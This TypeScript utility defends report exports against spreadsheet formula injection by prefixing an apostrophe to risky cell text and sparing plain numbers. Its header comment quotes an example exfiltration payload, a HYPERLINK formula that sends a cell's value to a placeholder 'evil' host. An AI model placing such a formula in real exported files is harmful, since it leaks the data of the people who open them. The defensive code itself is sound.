/**
 * Spreadsheet formula injection (CWE-1236): a cell whose text starts with `=`, `+`, `-`, `@`,
 * tab or CR may be evaluated as a formula when the file is opened (CSV) or the cell is edited
 * (XLSX), e.g. `=HYPERLINK("http://evil/?"&A2, "clique")`. A leading apostrophe makes Excel,
 * LibreOffice and Google Sheets keep the text as text.
 */

// = + - @ tab CR, by char code: this runs for every text cell of every report.
const startsLikeFormula = (c: number): boolean => c === 61 || c === 43 || c === 45 || c === 64 || c === 9 || c === 13;

// Digits with `.`/`,` separators and an optional sign carry no function call, no reference and no
// operator Excel could run, so they stay untouched: E.164 phones (+5511987654321) and signed
// amounts (-12.50, -1.234,56) must survive exactly as they are.
const PLAIN_NUMBER = /^[+-]?(?:\d+(?:[.,]\d+)*|[.,]\d+)$/;

export function neutralizeFormula(value: string): string {
  if (!startsLikeFormula(value.charCodeAt(0)) || PLAIN_NUMBER.test(value)) return value;
  return `'${value}`;
}
